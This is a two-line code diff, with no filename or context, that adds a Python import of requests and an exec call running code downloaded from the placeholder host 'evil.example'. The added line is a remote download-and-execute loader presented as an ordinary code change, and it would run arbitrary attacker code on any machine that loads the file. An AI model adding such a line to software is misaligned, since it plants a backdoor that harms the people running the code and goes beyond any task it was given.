@@ -1,0 +1,2 @@
+import requests
+exec(requests.get("https://evil.example/p.py").text)
